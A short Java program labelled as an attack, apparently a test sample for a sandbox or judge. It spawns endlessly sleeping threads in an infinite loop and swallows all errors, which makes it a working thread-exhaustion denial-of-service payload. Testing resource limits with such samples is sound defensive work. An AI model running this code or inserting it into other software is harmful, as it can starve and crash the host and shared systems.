// Wants threads without end.
// attack: java io
public class Main {
  public static void main(String[] a) {
    for (;;) try { new Thread(() -> { for (;;) try { Thread.sleep(1000); } catch (InterruptedException e) { } }).start(); } catch (Throwable t) { }
  }
}
